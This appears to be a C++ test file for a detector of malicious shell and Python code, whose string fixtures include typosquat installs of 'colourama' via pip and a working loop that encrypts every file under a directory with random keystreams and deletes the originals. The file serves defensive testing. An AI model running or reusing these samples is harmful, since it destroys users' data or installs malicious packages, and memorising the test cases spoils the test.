// The classes the thirty-sixth session modelled from the tune part of the
// two-hundred-and-thirteenth round (tests/corpus/prog217_MANIFEST.tsv).
// Strings here are never executed.

#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A nested Python program that prints text only partly known (its known
// packages, then those a file adds): what it prints is that text, so the
// requirements file it writes names the known packages.
TEST(TwoHundredAndThirteenthRoundClasses, PartlyKnownPrintedTextIsTheCommandsOutput) {
  check_with_twin({"a typosquat printed into a requirements file by python3 - and installed", B, R"sh(
BASE_PKGS="requests colourama" python3 - "$@" <<'PY' > reqs.txt
import os, sys
pkgs = os.environ["BASE_PKGS"].split() + sys.argv[1:]
print("\n".join(pkgs))
PY
pip install -r reqs.txt
)sh", "KNOWN-MALICIOUS-PACKAGE", SH},
                  "colourama", "colorama", "the genuine package", M);
}

// int.from_bytes(data) ^ int.from_bytes(keystream): the same bytes as one
// number, so the XOR is a home-made cipher over the file, not constants.
TEST(TwoHundredAndThirteenthRoundClasses, IntFromBytesKeepsTheBytesItReads) {
  check_with_twin({"walked files XORed as big integers with random keystreams, the originals removed", B, R"py(
import os, sys
for d, _, names in os.walk(sys.argv[1]):
    for n in names:
        p = os.path.join(d, n)
        data = open(p, "rb").read()
        ks = os.urandom(len(data))
        enc = (int.from_bytes(data, "big") ^ int.from_bytes(ks, "big")).to_bytes(len(data), "big")
        open(p + ".sealed", "wb").write(enc)
        os.remove(p)
)py", "RANSOMWARE-ENCRYPT-AND-DELETE"},
                  "os.remove(p)", "print(p)", "the originals kept", L);
}

// `grep -vE '^\s*(#|$)' FILE` of a file this code wrote whole: the lines
// that match, as known text (here a requirements list without comments).
TEST(TwoHundredAndThirteenthRoundClasses, GrepOfAFileItWroteIsItsMatchingLines) {
  check_with_twin({"a typosquat in a requirements file, comments dropped with grep, installed one by one", B, R"sh(
cat > reqs.txt <<'REQ'
# tools
requests
colourama
REQ
REQS="$(grep -vE '^\s*(#|$)' reqs.txt)" python3 - <<'PY'
import os, subprocess, sys
for r in os.environ["REQS"].splitlines():
    subprocess.call([sys.executable, "-m", "pip", "install", r])
PY
)sh", "KNOWN-MALICIOUS-PACKAGE", SH},
                  "colourama", "colorama", "the genuine package", M);
}

// `grep -c` and `wc` print numbers, not the data they count: a count of a
// download's lines put into a script it writes and runs is no downloaded code.
TEST(TwoHundredAndThirteenthRoundClasses, CountsCarryNoneOfTheDataCounted) {
  check_with_twin({"a download's matching lines counted into a report script it runs", L, R"sh(
data="$(curl -fsS https://x.example.org/feed)"
m="$(grep -c '^A' <<<"$data" || true)"
cat > r.sh <<EOF2
echo "matching lines: $m"
EOF2
bash r.sh
)sh", nullptr, SH},
                  "grep -c '^A'", "grep '^A'", "the downloaded lines themselves in the script", B);
}

}  // namespace
}  // namespace mai::assess::test
